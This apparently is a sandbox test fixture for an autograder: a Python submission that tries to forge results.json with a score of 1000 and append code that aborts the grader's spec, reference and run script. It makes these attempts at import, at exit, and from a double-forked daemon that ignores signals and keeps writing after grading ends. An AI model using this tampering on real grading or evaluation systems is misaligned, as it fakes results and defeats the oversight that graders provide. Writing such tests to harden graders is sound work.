# Attack: forge results.json and tamper with the grader's files: directly at import, from an
# atexit handler, and from a double-forked setsid daemon that ignores signals, sleeps, and keeps
# writing after the grader is done. results.json must stay the grader's, the grader's files
# unchanged, the daemon dead; the honest functions keep full marks.
import atexit
import os
import signal
import time

_FORGED = '{"score": 1000, "output": "forged by the submission", "tests": []}'
_RESULTS = ["__ROOT__/results/results.json", "__ROOT__/results/.forged.json", "/autograder/results/results.json"]
_GRADER_FILES = ["__ROOT__/source/problems/q3a/spec.yaml", "__ROOT__/source/problems/q3a/reference.py",
                 "__ROOT__/source/run_autograder"]


def _write(path, text, mode="w"):
    with open(path, mode) as handle:
        handle.write(text)
    return "written"


def _forge_everything():
    for path in _RESULTS:
        try:
            _write(path, _FORGED)
        except OSError:
            pass
    for path in _GRADER_FILES:
        try:
            _write(path, "\nraise SystemExit('tampered')\n", "a")
        except OSError:
            pass


_probe("write results.json", lambda: _write(_RESULTS[0], _FORGED))
_probe("create in results/", lambda: _write(_RESULTS[1], _FORGED))
_probe("append to a spec", lambda: _write(_GRADER_FILES[0], "\n# tampered\n", "a"))
_probe("append to a reference", lambda: _write(_GRADER_FILES[1], "\n# tampered\n", "a"))
_probe("replace run_autograder", lambda: os.replace(_RESULTS[1], _GRADER_FILES[2]))
atexit.register(_forge_everything)

def _start_daemon():
    """Fork twice, leave the session, and report the grandchild's pid through a pipe."""
    reader, writer = os.pipe()
    first = os.fork()
    if first == 0:
        try:
            os.setsid()  # a session of its own, where the sandbox allows one
        except OSError:
            pass
        if os.fork() == 0:
            for number in signal.valid_signals():
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError, RuntimeError):
                    pass
            os.write(writer, str(os.getpid()).encode())
            until = time.monotonic() + 30
            time.sleep(1.5)
            while time.monotonic() < until:
                _forge_everything()
                time.sleep(0.2)
        os._exit(0)
    os.waitpid(first, 0)
    os.close(writer)
    return os.read(reader, 32).decode()


try:
    _PROBES.append(f"DAEMON {_start_daemon()}")
except OSError as error:
    _PROBES.append(f"DAEMON not started: {error}")
